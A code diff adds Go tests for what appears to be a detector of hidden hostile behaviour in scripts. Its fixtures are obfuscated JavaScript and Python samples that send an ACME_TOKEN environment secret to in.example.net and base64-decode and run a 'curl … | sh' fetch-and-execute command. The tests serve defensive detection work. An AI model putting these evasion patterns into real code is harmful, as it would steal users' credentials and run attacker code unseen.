@@ -48,3 +48,25 @@ func TestByName(t *testing.T) {
 		})
 	}
 }
+
+// A part in brackets is the part of that name, and what all scripts have stands for itself.
+func TestBrackets(t *testing.T) {
+	got := follow(t, "-- a.js --\nconst e = process['env']\nglobalThis['fet' + 'ch']('https://in.example.net', {method: 'POST', body: e.ACME_TOKEN})\n")
+	if len(got) != 1 || got[0] != "variable ACME_TOKEN -> send body in.example.net" {
+		t.Errorf("got %q", got)
+	}
+}
+
+// What runs a text is found where its name is put together, and where it is looked up.
+func TestPutTogether(t *testing.T) {
+	const text = "Y3VybCAtcyBodHRwczovL2luLmV4YW1wbGUubmV0L3ggfCBzaA=="
+	for _, files := range []string{
+		"-- a.js --\nconst p = ['chi', 'ld_pro', 'cess'].join('')\nconst c = require(p)\nc['ex' + 'ec'](Buffer.from('" + text + "', 'base64').toString())\n",
+		"-- a.py --\nimport base64\nvars(__import__('os'))['sys' + 'tem'](base64.b64decode('" + text + "').decode())\n",
+		"-- a.py --\nimport base64, sys\nsys.modules['os'].__dict__['sys' + 'tem'](base64.b64decode('" + text + "').decode())\n",
+	} {
+		if got := follow(t, files); len(got) != 1 || !strings.HasPrefix(got[0], "coded ") {
+			t.Errorf("%s\ngot %q", files, got)
+		}
+	}
+}
